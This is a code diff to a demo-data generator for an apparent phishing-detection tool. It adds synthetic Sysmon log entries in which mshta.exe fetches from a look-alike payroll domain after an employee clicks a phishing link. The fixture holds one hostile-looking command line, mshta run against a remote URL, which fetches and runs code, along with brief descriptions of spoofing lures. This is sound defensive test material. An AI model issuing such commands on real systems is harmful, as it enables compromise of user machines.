@@ -1,8 +1,8 @@
 """The demo scenario: a month of ordinary mail for a small organization, then an attack.
 
 Ordinary: partners that authenticate properly and that employees write to. Attack: a new sender
-mails thirty employees within the hour a link to a look-alike of the organization's domain, and
-one of them opens it (the proxy saw it); the CEO's own domain is spoofed from outside; a
+mails thirty employees within the hour a link to a look-alike of the organization's domain, one
+of them opens it (the proxy saw it) and mshta.exe on that host then fetches from the same site; the CEO's own domain is spoofed from outside; a
 free-mail account poses as the CEO; a brand lookalike sends a "Microsoft 365" notice with an
 HTML attachment.
 """
@@ -79,6 +79,43 @@ def employees(org: str, n: int = 60) -> list[str]:
             f"{FIRST_NAMES[i % len(FIRST_NAMES)]}.{LAST_NAMES[(i // len(FIRST_NAMES) + i) % len(LAST_NAMES)]}@{org}"
         )
     return sorted(set(out))
+
+
+def _sysmon_events(at: dt.datetime) -> str:
+    """Sysmon events in the flattened JSON shape exported by many collectors."""
+    guid = "{5b3a6f1e-0d2c-5f0a-0000-0010a1b2c3d4}"
+    common = {
+        "SourceName": "Microsoft-Windows-Sysmon",
+        "Channel": "Microsoft-Windows-Sysmon/Operational",
+        "Hostname": "ws-14.northwind.example",
+        "ProcessGuid": guid,
+        "ProcessId": 4412,
+        "Image": "C:\\Windows\\System32\\mshta.exe",
+        "User": "NORTHWIND\\dana.ortiz",
+    }
+    start = {
+        **common,
+        "EventID": 1,
+        "UtcTime": f"{at:%Y-%m-%d %H:%M:%S}.120",
+        "CommandLine": '"C:\\Windows\\System32\\mshta.exe" https://northwind-payroll.example/confirm',
+        "OriginalFileName": "MSHTA.EXE",
+        "ParentImage": "C:\\Windows\\explorer.exe",
+        "ParentCommandLine": "C:\\Windows\\Explorer.EXE",
+        "IntegrityLevel": "Medium",
+    }
+    conn = {
+        **common,
+        "EventID": 3,
+        "UtcTime": f"{at:%Y-%m-%d %H:%M:%S}.900",
+        "Protocol": "tcp",
+        "Initiated": "true",
+        "SourceIp": CLICKER_IP,
+        "SourcePort": 50544,
+        "DestinationIp": "203.0.113.80",
+        "DestinationHostname": "northwind-payroll.example",
+        "DestinationPort": 443,
+    }
+    return json.dumps(start) + "\n" + json.dumps(conn) + "\n"
 
 
 def demo_settings(world: MailWorld, folder: Path) -> Settings:
@@ -176,6 +213,11 @@ def build(folder: Path, seed: int = 7) -> DemoData:
         + "\n"
     )
     (folder / "mailbox-hosts.csv").write_text(f"mailbox,ip\n{clicker},{CLICKER_IP}\n")
+    # 1c. A minute later mshta.exe on that host fetches from the same look-alike (Sysmon 1 and 3).
+    (folder / "endpoint").mkdir(exist_ok=True)
+    (folder / "endpoint" / "sysmon.jsonl").write_text(
+        _sysmon_events(clicked_at + dt.timedelta(minutes=1))
+    )
     # 2. The organization's own domain spoofed from outside: SPF fails, no signature, p=reject (E1).
     write(
         "ceo-spoof.eml",
